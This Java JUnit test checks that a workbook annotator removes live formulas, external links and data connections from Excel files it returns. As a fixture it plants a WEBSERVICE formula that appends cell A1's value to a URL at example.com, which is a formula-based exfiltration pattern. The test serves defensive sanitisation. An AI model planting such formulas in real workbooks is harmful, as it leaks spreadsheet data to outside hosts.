package org.luzhi.integration.workbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.luzhi.integration.Workbooks.CONSUMED;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeMap;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.CellRangeAddressList;
import org.apache.poi.xssf.usermodel.XSSFDataValidationHelper;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.luzhi.integration.Golden;
import org.luzhi.integration.Workbooks;
import org.luzhi.integration.subject.Reading;

/** Formulas outside cells, and whatever leads out of a workbook, do not go back. */
class LivePartsTest {

    private static final String LIVE = "WEBSERVICE(\"http://example.com/\"&A1)";
    private static final String OF_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @Test
    void noFormulaOutsideACellGoesBack() throws IOException {
        byte[] answer = answered(Workbooks.edited(Workbooks.golden(), LivePartsTest::enliven));

        parts(answer).forEach((name, text) -> assertThat(text).as(name).doesNotContain("WEBSERVICE"));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(answer))) {
            XSSFSheet consumed = workbook.getSheet(CONSUMED);
            assertThat(workbook.getAllNames()).isEmpty();
            assertThat(consumed.getSheetConditionalFormatting().getNumConditionalFormattings())
                    .isZero();
            assertThat(consumed.getDataValidations())
                    .extracting(v -> v.getValidationConstraint().getFormula1())
                    .hasSize(4)
                    .allMatch(formula -> formula.startsWith("'代码 Codes'!"));
            assertThat(consumed.getNumMergedRegions()).isEqualTo(1);
            assertThat(consumed.getTables()).isEmpty();
            assertThat(Workbooks.cell(workbook, CONSUMED, "B3").getCellComment())
                    .isNotNull();
        }
    }

    @Test
    void whatLeadsOutOfTheWorkbookDoesNotGoBack() {
        Map<String, String> answer = parts(answered(linked()));

        assertThat(answer.keySet()).noneMatch(name -> name.contains("externalLink") || name.contains("connections"));
        answer.forEach((name, text) ->
                assertThat(text).as(name).doesNotContain("externalLink", "externalReference", "connections"));
        assertThat(answer).hasSizeGreaterThan(10);
    }

    @Test
    void theAnswerCanBeMendedAndSentAgain() {
        byte[] answer = answered(Workbooks.edited(linked(), LivePartsTest::enliven));

        Reading again = Golden.xlsx(
                Workbooks.edited(answer, w -> Workbooks.cell(w, CONSUMED, "B3").setCellValue(3000)));

        assertThat(Golden.errors(again)).isEmpty();
    }

    private static void enliven(Workbook each) {
        XSSFWorkbook workbook = (XSSFWorkbook) each;
        XSSFSheet consumed = workbook.getSheet(CONSUMED);
        var name = workbook.createName();
        name.setNameName("rate");
        name.setRefersToFormula(LIVE);
        var formats = consumed.getSheetConditionalFormatting();
        formats.addConditionalFormatting(
                new CellRangeAddress[] {CellRangeAddress.valueOf("A1:B9")},
                formats.createConditionalFormattingRule(LIVE + "=1"));
        XSSFDataValidationHelper validation = new XSSFDataValidationHelper(consumed);
        consumed.addValidationData(validation.createValidation(
                validation.createCustomConstraint(LIVE + "=1"), new CellRangeAddressList(1, 9, 1, 1)));
        consumed.addMergedRegion(CellRangeAddress.valueOf("J20:K21"));
        consumed.createDrawingPatriarch();
        XSSFSheet own = workbook.createSheet("我的计算");
        own.createRow(0).createCell(0).setCellValue("x");
        own.createRow(1).createCell(0).setCellValue(1);
        own.createTable(workbook.getCreationHelper().createAreaReference("A1:A2"))
                .getCTTable()
                .getTableColumns()
                .getTableColumnArray(0)
                .addNewCalculatedColumnFormula()
                .setStringValue(LIVE);
    }

    private static byte[] linked() {
        String type = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
        return Workbooks.rezipped(Workbooks.golden(), (part, out) -> {
            String text = new String(part.bytes(), StandardCharsets.UTF_8);
            switch (part.name()) {
                case "[Content_Types].xml" -> {
                    Workbooks.put(
                            out,
                            "xl/externalLinks/externalLink1.xml",
                            Golden.utf8(
                                    "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'/>"));
                    Workbooks.put(
                            out,
                            "xl/connections.xml",
                            Golden.utf8(
                                    "<connections xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'/>"));
                    text = text.replace(
                            "</Types>",
                            "<Override PartName='/xl/externalLinks/externalLink1.xml' ContentType='" + type
                                    + "externalLink+xml'/><Override PartName='/xl/connections.xml' ContentType='" + type
                                    + "connections+xml'/></Types>");
                }
                case "xl/_rels/workbook.xml.rels" ->
                    text = text.replace(
                            "</Relationships>",
                            "<Relationship Id='x1' Type='" + OF_OFFICE
                                    + "externalLink' Target='externalLinks/externalLink1.xml'/><Relationship Id='x2' Type='"
                                    + OF_OFFICE + "connections' Target='connections.xml'/></Relationships>");
                case "xl/workbook.xml" ->
                    text = text.replace(
                            "</sheets>",
                            "</sheets><externalReferences><externalReference r:id='x1'/></externalReferences>");
                default -> {
                    // As they are.
                }
            }
            Workbooks.put(out, part.name(), Golden.utf8(text));
        });
    }

    private static byte[] answered(byte[] good) {
        byte[] sent =
                Workbooks.edited(good, w -> Workbooks.cell(w, CONSUMED, "B3").setCellValue(-1));
        Reading reading = Golden.xlsx(sent);
        return new WorkbookAnnotator().annotate(sent, reading, reading.problems());
    }

    private static Map<String, String> parts(byte[] workbook) {
        Map<String, String> parts = new TreeMap<>();
        Workbooks.rezipped(
                workbook, (part, out) -> parts.put(part.name(), new String(part.bytes(), StandardCharsets.UTF_8)));
        return parts;
    }
}
